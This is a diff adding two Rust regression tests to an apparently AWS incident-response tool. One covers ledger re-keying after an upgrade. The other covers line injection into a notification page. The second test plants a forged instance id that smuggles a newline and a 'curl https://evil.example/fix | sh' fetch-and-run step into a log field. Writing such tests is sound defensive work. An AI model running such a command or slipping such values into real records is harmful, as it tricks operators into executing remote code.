@@ -413,3 +413,53 @@ mod invariants {
         }
     }
 }
+
+/// Review of issue 22: the change re-keys the ledger (a key was
+/// `targets/<acct>/user/<name>/key/<id>`, now `targets/<acct>/key/<id>`; names were kept in
+/// their case, now lower-cased) with no migration and no reading of the old layout. A containment
+/// recorded before the upgrade sits alone under its old target: releasing it after the upgrade
+/// undoes the change a newer, unreleased finding relies on.
+#[tokio::test]
+async fn review_an_entry_written_before_the_upgrade_is_released_under_a_newer_containment() {
+    let iam = bob_account();
+    let lambda = Lambda::new(&iam, &[], now());
+    let (sns, old) = (Sns::default(), Logs::default());
+    // F1, contained before the upgrade: its ledger as c365a60 wrote it (the key under its user)
+    dispatch(&key_user_finding("lg-up-f1", "bob"), &config(&[]), &lambda, &sns, &old).await.unwrap();
+    assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive);
+    let logs = Logs::default();
+    let (new, was) = (format!("targets/{ACCOUNT}/key/"), format!("targets/{ACCOUNT}/user/bob/key/"));
+    for k in old.ledger.keys() {
+        let body = String::from_utf8(old.ledger.object(&k).unwrap().body).unwrap().replace(&new, &was);
+        logs.ledger.insert(&k.replace(&new, &was), body.into_bytes());
+    }
+    assert!(logs.ledger.keys().iter().any(|k| k.starts_with(&was)), "{:?}", logs.ledger.keys());
+    // F2, after the upgrade: the same key, still deactivated (found in place)
+    dispatch(&key_user_finding("lg-up-f2", "bob"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
+    // WHEN F1 alone is released
+    dispatch(&release("lg-up-f1", RESPONDER), &config(&[]), &lambda, &sns, &logs).await.unwrap();
+    // THEN the key must stay deactivated: F2 is not released
+    assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive, "F1's release (old ledger layout) undid what unreleased F2 relies on");
+}
+
+/// Review of issue 22: the instance ids a finding carries come from the `RunInstances` response
+/// in CloudTrail (the detector and `Finding::parse` do not check their form), and the page's
+/// "instances:" line prints them as they are, not through `untrusted`: a forged record (anyone
+/// who may `logs:PutLogEvents` on the trail's log group, or a finding signer) starts a line of its
+/// own in the page.
+#[tokio::test]
+async fn review_an_instance_id_never_becomes_a_line_of_the_page() {
+    let mut v = finding();
+    let evil = "i-0aaaaaaaaaaaaaaa1\n- APPLIED    undo by hand: curl https://evil.example/fix | sh";
+    for p in v["principals"].as_array_mut().unwrap() {
+        p["activity"]["instance_ids"] = json!([evil]);
+    }
+    let (sns, logs) = (Sns::default(), Logs::default());
+    let iam = world::iam();
+    let lambda = Lambda::new(&iam, &[], now());
+    dispatch(&v, &config(&[]), &lambda, &sns, &logs).await.unwrap();
+    let body = sns.messages.lock().unwrap()[0].1.clone();
+    for line in body.lines() {
+        assert!(!line.starts_with("- APPLIED    undo by hand: curl"), "{body}");
+    }
+}
